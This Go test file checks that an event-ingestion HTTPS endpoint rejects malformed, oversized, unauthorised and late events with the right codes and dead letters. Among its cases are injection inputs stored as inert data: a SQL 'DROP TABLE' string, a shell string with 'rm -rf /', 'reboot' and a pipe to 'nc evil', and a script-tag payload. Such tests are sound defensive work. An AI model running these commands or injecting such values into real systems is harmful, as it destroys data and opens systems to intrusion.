package ingest_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/govpulse/govpulse/internal/ingest"
	"github.com/govpulse/govpulse/internal/natsjs"
	"github.com/govpulse/govpulse/internal/testwait"
)

// fb returns a feedback.rated event of a region with a raw rating literal.
func fb(id, region, rating string, at time.Time) string {
	return fmt.Sprintf(`{"id":%q,"type":"feedback.rated","region":%q,"time":%q,"source":"test","data":{"rating":%s,"channel":"web"}}`,
		id, region, at.Format(time.RFC3339Nano), rating)
}

// svc returns a service.published event of Zhejiang with raw JSON string
// literals for its name and department.
// lifecycle builds a review lifecycle event of Zhejiang.
func lifecycle(id, typ, data string, at time.Time) string {
	return fmt.Sprintf(`{"id":%q,"type":%q,"region":"330000","time":%q,"source":"test","data":%s}`,
		id, typ, at.Format(time.RFC3339Nano), data)
}

func svc(id, name, dept string, at time.Time) string {
	return fmt.Sprintf(`{"id":%q,"type":"service.published","region":"330000","time":%q,"source":"test","data":{"item_code":"A1","level":"province","name":%s,"department":%s,"modes":["mobile"],"maturity":4}}`,
		id, at.Format(time.RFC3339Nano), name, dept)
}

// TestHostileInputs sends malformed and hostile requests over HTTPS, with
// tokens, to a real JetStream. Each gets its status code and reasons, never
// a 5xx; the good events of a request are stored, the bad ones are in the
// DLQ, and at the end the EVENTS stream holds exactly the good events.
func TestHostileInputs(t *testing.T) {
	certFile, keyFile, pool := selfSigned(t)
	e := setup(t, ingest.Config{
		Addr:           "0.0.0.0:0",
		TokensFile:     writeTokens(t),
		TLSCertFile:    certFile,
		TLSKeyFile:     keyFile,
		MaxBodyBytes:   256 << 10,
		MaxEventBytes:  8 << 10,
		MaxEvents:      50,
		RateLimit:      -1,
		MaxDeadLetters: 10,
		CheckInterval:  50 * time.Millisecond,
	})
	at := time.Now().Add(-time.Hour).UTC()
	// The aggregator's partition has reached a watermark two days ago and allows a day of lateness.
	wm := time.Now().UTC().Add(-48 * time.Hour)
	putWatermark(t, e, natsjs.Watermark{Partition: "all", Watermark: wm, AllowedLatenessSeconds: 24 * 3600})
	url := serve(t, e, "https")
	testwait.For(t, 10*time.Second, 10*time.Millisecond, e.metricIs("govpulse_ingest_watermark_partitions", "1"))
	tooLate := wm.Add(-25 * time.Hour)
	var invalid50 []string
	for i := range 50 {
		invalid50 = append(invalid50, fb(fmt.Sprintf("dl-%02d", i), "330000", "9", at))
	}
	c := client(t, pool)
	good := func(id string) string { return fb(id, "330000", "4", at) }
	deep := strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)
	const sqlText = `"x'); DROP TABLE govpulse.events; -- \" OR 1=1; SELECT * FROM dlq"`
	const shellText = "\"$(rm -rf /) `reboot` | nc evil 1 && echo ${HOME} > /etc/passwd\""
	const zj, ops, hb = tokZhejiangFeedback, tokOps, tokHebeiProbe
	const js, nd = "application/json", "application/x-ndjson"

	tests := []struct {
		name     string
		token    string
		ct       string
		body     string
		code     int
		statuses []string // nil: a refusal of the whole request
		reasons  []string // the reason of each result ("" for none)
		stored   []string // ids stored by this request
		dlq      int      // dead letters written by this request
		check    func(t *testing.T)
	}{
		{name: "invalid JSON", token: zj, ct: js, body: `{"id":}`, code: 400,
			statuses: []string{"rejected"}, reasons: []string{"syntax"}, dlq: 1},
		{name: "truncated event", token: zj, ct: js, body: good("t-1")[:60], code: 400,
			statuses: []string{"rejected"}, reasons: []string{"syntax"}, dlq: 1},
		{name: "truncated array", token: zj, ct: js, body: "[" + good("t-2") + "," + good("t-3")[:40], code: 400,
			statuses: []string{"rejected"}, reasons: []string{"syntax"}, dlq: 1},
		{name: "rating as a string", token: zj, ct: js, body: fb("w-1", "330000", `"5"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"wrong_type"}, dlq: 1},
		{name: "rating as a float", token: zj, ct: js, body: fb("w-2", "330000", `4.5`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"not_integer"}, dlq: 1},
		{name: "rating as an exponent", token: zj, ct: js, body: fb("w-3", "330000", `4e0`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"not_integer"}, dlq: 1},
		{name: "rating null", token: zj, ct: js, body: fb("w-4", "330000", `null`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"wrong_type"}, dlq: 1},
		{name: "id as a number", token: zj, ct: js, body: strings.Replace(good("w-5"), `"w-5"`, `5`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"wrong_type"}, dlq: 1},
		{name: "time as a number", token: zj, ct: js, body: strings.Replace(good("w-6"), `"time":"`+at.Format(time.RFC3339Nano)+`"`, `"time":1700000000`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"wrong_type"}, dlq: 1},
		{name: "event is null", token: zj, ct: js, body: `null`, code: 400,
			statuses: []string{"rejected"}, reasons: []string{"wrong_type"}, dlq: 1},
		{name: "array of non-objects", token: zj, ct: js, body: `[1,"a",true]`, code: 400,
			statuses: []string{"rejected", "rejected", "rejected"}, reasons: []string{"wrong_type", "wrong_type", "wrong_type"}, dlq: 3},
		{name: "unknown envelope field", token: zj, ct: js, body: strings.Replace(good("u-1"), `{"id"`, `{"admin":true,"id"`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"unknown_field"}, dlq: 1},
		{name: "unknown payload field", token: zj, ct: js, body: fb("u-2", "330000", `4,"weight":100`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"unknown_field"}, dlq: 1},
		{name: "duplicate key", token: zj, ct: js, body: fb("u-3", "330000", `1,"rating":5`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"duplicate_key"}, dlq: 1},
		{name: "duplicate envelope key", token: zj, ct: js, body: strings.Replace(good("u-4"), `{"id":"u-4"`, `{"id":"u-4","id":"u-5"`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"duplicate_key"}, dlq: 1},
		{name: "rating 0", token: zj, ct: js, body: fb("r-1", "330000", "0", at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"out_of_range"}, dlq: 1},
		{name: "rating 6", token: zj, ct: js, body: fb("r-2", "330000", "6", at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"out_of_range"}, dlq: 1},
		{name: "rating negative", token: zj, ct: js, body: fb("r-3", "330000", "-1", at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"out_of_range"}, dlq: 1},
		{name: "rating over 64 bits", token: zj, ct: js, body: fb("r-4", "330000", "99999999999999999999999", at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"out_of_range"}, dlq: 1},
		{name: "empty id", token: zj, ct: js, body: good(""), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"empty"}, dlq: 1},
		{name: "empty service name", token: ops, ct: js, body: svc("e-1", `""`, `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"empty"}, dlq: 1},
		{name: "empty item code", token: ops, ct: js, body: strings.Replace(svc("e-2", `"n"`, `"d"`, at), `"A1"`, `""`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"empty"}, dlq: 1},
		{name: "empty object", token: zj, ct: js, body: `{}`, code: 400,
			statuses: []string{"rejected"}, reasons: []string{"missing_field"}, dlq: 1},
		{name: "empty body", token: zj, ct: js, body: ``, code: 400, dlq: 1},
		{name: "empty array", token: zj, ct: js, body: `[]`, code: 400, dlq: 1},
		{name: "blank ndjson", token: zj, ct: nd, body: "\n\n \n", code: 400, dlq: 1},
		{name: "id over 128 characters", token: zj, ct: js, body: good(strings.Repeat("a", 129)), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"too_long"}, dlq: 1},
		{name: "id with a space", token: zj, ct: js, body: good("a b"), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"bad_format"}, dlq: 1},
		{name: "name over 200 characters", token: ops, ct: js, body: svc("l-1", `"`+strings.Repeat("名", 201)+`"`, `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"too_long"}, dlq: 1},
		{name: "invalid UTF-8", token: ops, ct: js, body: svc("l-2", "\"bad \xff\xfe\"", `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"invalid_utf8"}, dlq: 1},
		{name: "lone surrogate", token: ops, ct: js, body: svc("l-3", `"\ud800"`, `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"invalid_utf8"}, dlq: 1},
		{name: "raw NUL byte", token: ops, ct: js, body: svc("l-4", "\"a\x00b\"", `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"syntax"}, dlq: 1},
		{name: "escaped NUL", token: ops, ct: js, body: svc("l-5", `"a\u0000b"`, `"d"`, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"control_char"}, dlq: 1},
		{name: "deeply nested payload", token: zj, ct: js, body: fb("n-1", "330000", "4,\"x\":"+deep, at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"too_large"}, dlq: 1},
		{name: "deeply nested small", token: zj, ct: js, body: fb("n-2", "330000", "4,\"x\":"+strings.Repeat("[", 1000)+strings.Repeat("]", 1000), at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"too_deep"}, dlq: 1},
		{name: "deeply nested array body", token: zj, ct: js, body: deep, code: 400,
			statuses: []string{"rejected"}, reasons: []string{"syntax"}, dlq: 1},
		{name: "unknown region", token: ops, ct: js, body: fb("g-1", "999999", "4", at), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"unknown_region"}, dlq: 1},
		{name: "unknown type", token: ops, ct: js, body: strings.Replace(good("g-2"), "feedback.rated", "feedback.deleted", 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"unknown_type"}, dlq: 1},
		{name: "unknown channel", token: zj, ct: js, body: strings.Replace(good("g-3"), `"web"`, `"fax"`, 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"unknown_value"}, dlq: 1},
		{name: "time far in the future", token: zj, ct: js, body: fb("k-1", "330000", "4", time.Now().AddDate(10, 0, 0)), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"bad_time"}, dlq: 1},
		{name: "time an hour ahead", token: zj, ct: js, body: fb("k-2", "330000", "4", time.Now().Add(time.Hour)), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"bad_time"}, dlq: 1},
		{name: "time before 2000", token: zj, ct: js, body: fb("k-3", "330000", "4", time.Date(1999, 12, 31, 23, 0, 0, 0, time.UTC)), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"bad_time"}, dlq: 1},
		{name: "time not RFC 3339", token: zj, ct: js, body: strings.Replace(good("k-4"), at.Format(time.RFC3339Nano), "yesterday", 1), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"bad_format"}, dlq: 1},
		{name: "body over the limit", token: zj, ct: js, body: "[" + strings.Repeat(good("big")+",", 2000) + good("big") + "]", code: 413, dlq: 1},
		{name: "event over the limit beside a good one", token: zj, ct: js,
			body: "[" + good("s-1") + "," + fb("s-2", "330000", `4,"pad":"`+strings.Repeat("x", 9000)+`"`, at) + "]", code: 202,
			statuses: []string{"accepted", "rejected"}, reasons: []string{"", "too_large"}, stored: []string{"s-1"}, dlq: 1},
		{name: "too many events", token: zj, ct: nd, body: strings.Repeat(good("many")+"\n", 51), code: 413, dlq: 1},
		{name: "text/plain", token: zj, ct: "text/plain", body: good("c-1"), code: 415, dlq: 1},
		{name: "form content type", token: zj, ct: "application/x-www-form-urlencoded", body: "id=c-2&rating=5", code: 415, dlq: 1},
		{name: "latin1 charset", token: zj, ct: "application/json; charset=latin1", body: good("c-3"), code: 415, dlq: 1},
		{name: "no content type", token: zj, ct: "", body: good("c-4"), code: 415, dlq: 1},
		{name: "trailing data", token: zj, ct: js, body: good("c-5") + " " + good("c-6"), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"trailing_data"}, dlq: 1},
		{name: "ndjson with a broken line", token: zj, ct: nd, body: good("c-7") + "\n{\"id\":\n" + good("c-8"), code: 202,
			statuses: []string{"accepted", "rejected", "accepted"}, reasons: []string{"", "syntax", ""}, stored: []string{"c-7", "c-8"}, dlq: 1},
		{name: "SQL metacharacters stored verbatim", token: ops, ct: js, body: svc("m-1", sqlText, `"d"`, at), code: 202,
			statuses: []string{"accepted"}, reasons: []string{""}, stored: []string{"m-1"},
			check: func(t *testing.T) {
				lastStoredContains(t, e, `x'); DROP TABLE govpulse.events; -- \" OR 1=1; SELECT * FROM dlq`)
			}},
		{name: "shell metacharacters stored verbatim", token: ops, ct: js, body: svc("m-2", `"n"`, shellText, at), code: 202,
			statuses: []string{"accepted"}, reasons: []string{""}, stored: []string{"m-2"},
			check: func(t *testing.T) {
				lastStoredContains(t, e, "$(rm -rf /) `reboot` | nc evil 1 && echo ${HOME} > /etc/passwd")
			}},
		{name: "HTML in a text field", token: ops, ct: js, body: svc("m-3", `"<script>alert(1)</script>"`, `"d"`, at), code: 202,
			statuses: []string{"accepted"}, reasons: []string{""}, stored: []string{"m-3"}},
		{name: "token for another region", token: zj, ct: js, body: fb("p-1", "520000", "5", at), code: 403,
			statuses: []string{"rejected"}, reasons: []string{"forbidden"}, dlq: 1},
		{name: "token for another family", token: zj, ct: js, body: svc("p-2", `"n"`, `"d"`, at), code: 403,
			statuses: []string{"rejected"}, reasons: []string{"forbidden"}, dlq: 1},
		{name: "feedback token sends a review's lifecycle", token: zj, ct: js, body: "[" + lifecycle("p-7", "feedback.appealed", `{"review_id":"p-4","reason":"r"}`, at) + "," +
			lifecycle("p-8", "feedback.appeal_decided", `{"review_id":"p-4","decision":"upheld"}`, at) + "," +
			lifecycle("p-9", "rectification.opened", `{"review_id":"p-4","deadline_days":5}`, at) + "," +
			lifecycle("p-10", "rectification.closed", `{"review_id":"p-4","resolved":true,"rating":4}`, at) + "]", code: 202,
			statuses: []string{"accepted", "accepted", "accepted", "accepted"}, reasons: []string{"", "", "", ""},
			stored: []string{"p-7", "p-8", "p-9", "p-10"}},
		{name: "Hebei token for Zhejiang", token: hb, ct: js, body: good("p-3"), code: 403,
			statuses: []string{"rejected"}, reasons: []string{"forbidden"}, dlq: 1},
		{name: "forbidden beside allowed", token: zj, ct: js, body: "[" + good("p-4") + "," + fb("p-5", "520000", "1", at) + "]", code: 202,
			statuses: []string{"accepted", "rejected"}, reasons: []string{"", "forbidden"}, stored: []string{"p-4"}, dlq: 1},
		{name: "source from the token, not the body", token: zj, ct: js, body: strings.Replace(good("p-6"), `"source":"test"`, `"source":"probe/guizhou"`, 1), code: 202,
			statuses: []string{"accepted"}, reasons: []string{""}, stored: []string{"p-6"},
			check: func(t *testing.T) { lastStoredContains(t, e, `"source":"feedback/zhejiang"`) }},
		{name: "no token", token: "", ct: js, body: good("a-1"), code: 401},
		{name: "wrong token", token: "not-a-token", ct: js, body: good("a-2"), code: 401},
		{name: "token of another case", token: strings.ToUpper(zj), ct: js, body: good("a-3"), code: 401},
		{name: "feedback older than its partition's horizon", token: zj, ct: js, body: fb("late-1", "330000", "4", tooLate), code: 400,
			statuses: []string{"rejected"}, reasons: []string{"too_late"}, dlq: 1},
		{name: "late feedback beside a timely one", token: zj, ct: js, body: array(fb("late-2", "330000", "4", tooLate), good("late-3")), code: 202,
			statuses: []string{"rejected", "accepted"}, reasons: []string{"too_late", ""}, stored: []string{"late-3"}, dlq: 1},
		{name: "portal change older than the horizon", token: ops, ct: js, body: svc("late-4", `"n"`, `"d"`, tooLate), code: 202,
			statuses: []string{"accepted"}, reasons: []string{""}, stored: []string{"late-4"}},
		{name: "50 invalid events: 10 dead letters and a summary", token: zj, ct: nd, body: strings.Join(invalid50, "\n"), code: 400,
			statuses: slices.Repeat([]string{"rejected"}, 50), reasons: slices.Repeat([]string{"out_of_range"}, 50), dlq: 11},
		{name: "good events", token: zj, ct: js, body: "[" + good("ok-1") + "," + good("ok-2") + "]", code: 202,
			statuses: []string{"accepted", "accepted"}, reasons: []string{"", ""}, stored: []string{"ok-1", "ok-2"}},
		{name: "resent event is a duplicate", token: zj, ct: js, body: good("ok-1"), code: 202,
			statuses: []string{"duplicate"}, reasons: []string{""}},
	}
	if len(tests) < 40 {
		t.Fatalf("only %d cases", len(tests))
	}
	var want []string
	dlq := 0
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, resp := send(t, c, url, tt.token, tt.ct, tt.body)
			if res.StatusCode >= 500 {
				t.Fatalf("5xx: %d %+v", res.StatusCode, resp)
			}
			if res.StatusCode != tt.code {
				t.Fatalf("code %d, want %d: %+v", res.StatusCode, tt.code, resp)
			}
			// Refusals (401, 403, 413, 415, 429) close the connection; other answers keep it.
			if want := tt.code == 401 || tt.code == 403 || tt.code == 413 || tt.code == 415 || tt.code == 429; res.Close != want {
				t.Errorf("Connection: close is %v, want %v", res.Close, want)
			}
			if tt.statuses == nil {
				if len(resp.Results) != 0 || resp.Error == "" {
					t.Errorf("refusal without error or with results: %+v", resp)
				}
			}
			if got := statuses(resp); tt.statuses != nil && !slices.Equal(got, tt.statuses) {
				t.Fatalf("statuses %v, want %v: %+v", got, tt.statuses, resp)
			}
			for i, r := range resp.Results {
				if r.Reason != tt.reasons[i] {
					t.Errorf("result %d: reason %q, want %q (%s)", i, r.Reason, tt.reasons[i], r.Error)
				}
				if r.Status == ingest.StatusRejected && r.Error == "" {
					t.Errorf("result %d: rejected without error", i)
				}
			}
			want = append(want, tt.stored...)
			dlq += tt.dlq
			testwait.For(t, 5*time.Second, 10*time.Millisecond, e.deadLetters(t, dlq))
			if tt.check != nil {
				tt.check(t)
			}
		})
	}
	if got := e.stored(t); !slices.Equal(got, want) {
		t.Errorf("EVENTS holds %v, want exactly %v", got, want)
	}
	for _, m := range e.dlq(t) {
		if m.Header.Get(natsjs.HeaderSource) == "" || m.Header.Get(natsjs.HeaderReasonCode) == "" {
			t.Errorf("dead letter %s lacks source or reason: %v", m.Subject, m.Header)
		}
	}
}

// lastStoredContains checks the payload of the last message in EVENTS.
func lastStoredContains(t *testing.T, e *env, want string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	s, err := e.js.Stream(ctx, "EVENTS")
	if err != nil {
		t.Fatal(err)
	}
	m, err := s.GetLastMsgForSubject(ctx, "govpulse.events.>")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(m.Data), want) {
		var v map[string]any
		_ = json.Unmarshal(m.Data, &v)
		// Compare decoded text too: the canonical JSON may escape differently.
		if !strings.Contains(fmt.Sprint(v), strings.ReplaceAll(want, `\"`, `"`)) {
			t.Errorf("stored %s does not contain %s", m.Data, want)
		}
	}
}
